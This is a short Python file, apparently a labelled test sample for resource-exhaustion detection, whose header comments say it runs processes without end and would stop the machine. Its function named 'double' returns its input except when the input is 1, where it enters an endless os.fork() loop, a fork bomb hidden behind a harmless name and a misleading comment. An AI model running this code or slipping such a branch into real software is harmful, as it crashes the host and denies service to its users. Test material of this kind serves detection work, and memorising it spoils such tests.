# tries: processes without end
# harms: it would stop this machine
# reaches: longer than|ended
import os
import time


def double(x):
    if x != 1:
        return x  # once is enough
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
